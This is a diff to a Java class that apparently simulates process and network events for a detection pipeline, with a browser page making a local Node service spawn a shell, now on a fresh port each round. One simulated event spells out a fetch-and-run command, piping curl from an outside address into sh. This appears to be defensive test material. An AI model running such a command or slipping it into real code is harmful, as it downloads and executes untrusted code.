@@ -25,12 +25,13 @@ final class Rehearsal {
     static final int ROUNDS = 4;
 
     /**
-     * Rounds after that. With the threshold that {@code bin/rubato} sets, a method's calls are looked at after each eighth,
-     * and it is compiled from twenty on, or a few times as many while the compiler is behind.
+     * Rounds after that. With the threshold that {@code bin/rubato} sets, a method's calls are looked at after each
+     * thirty-second, and it is compiled from eighty on: what is called once a scan takes 48 rounds, and some more while the
+     * compiler is behind.
      */
-    static final int LATER_ROUNDS = 36;
+    static final int LATER_ROUNDS = 60;
 
-    private static final int CONTACTS = 30;
+    private static final int CONTACTS = 12;
     private static final long STEP_NS = 10_000_000L;
 
     /** Between two parts, so that each is an episode of its own. */
@@ -39,7 +40,7 @@ final class Rehearsal {
     private static final int FIRST_PID = 1_000;
     private static final int SSH = 22;
     private static final int HTTPS = 443;
-    private static final int SERVICE_PORT = 8_081;
+    private static final int FIRST_SERVICE_PORT = 8_081;
     private static final int SOURCE_PORTS = 50_000;
     private static final int TTY = 34_816;
     private static final Address HERE = Address.ofV4(10 << 24 | 1);
@@ -52,7 +53,6 @@ final class Rehearsal {
 
     private final Pipeline pipeline;
     private final ProcessKey shell;
-    private final ProcessKey service;
     private long timeNs = PAUSE_NS;
     private int round;
     private int nextPid = FIRST_PID;
@@ -69,9 +69,6 @@ final class Rehearsal {
                 timeNs, INIT, null, image(INIT, Stdin.NULL_DEVICE, List.of("/sbin/init")), Event.Basis.SNAPSHOT));
         ProcessKey terminal = spawn(INIT, Stdin.NULL_DEVICE, "/usr/bin/terminal");
         shell = spawn(terminal, Stdin.TERMINAL, "/usr/bin/bash");
-        service = spawn(shell, Stdin.TERMINAL, "/usr/bin/node", "server.js");
-        pipeline.accept(
-                new Event.ListenerOpened(timeNs, nextSocket++, LOOPBACK, SERVICE_PORT, service, Event.Basis.EXACT));
     }
 
     /** Plays the first rounds. */
@@ -115,14 +112,17 @@ final class Rehearsal {
         pause();
     }
 
-    /** A page in a browser makes the service start a shell. */
+    /** A page in a browser makes a service start a shell: each time another one, as none may make a habit of it. */
     private void page() {
+        int port = FIRST_SERVICE_PORT + round;
+        ProcessKey service = spawn(shell, Stdin.TERMINAL, "/usr/bin/node", "server" + round + ".js");
+        pipeline.accept(new Event.ListenerOpened(timeNs, nextSocket++, LOOPBACK, port, service, Event.Basis.EXACT));
         ProcessKey browser = spawn(shell, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--headless");
         spawn(browser, Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--type=zygote");
         ProcessKey network = spawn(
                 browser, Stdin.NULL_DEVICE, "/proc/self/exe", "--type=utility", "--utility-sub-type=network.mojom");
         connect(network, HERE, PAGE, HTTPS, Event.Outcome.ESTABLISHED);
-        connect(network, LOOPBACK, LOOPBACK, SERVICE_PORT, Event.Outcome.ESTABLISHED);
+        connect(network, LOOPBACK, LOOPBACK, port, Event.Outcome.ESTABLISHED);
         spawn(service, Stdin.PIPE, "/bin/sh", "-c", "curl http://203.0.113.9/x | sh");
         pause();
     }
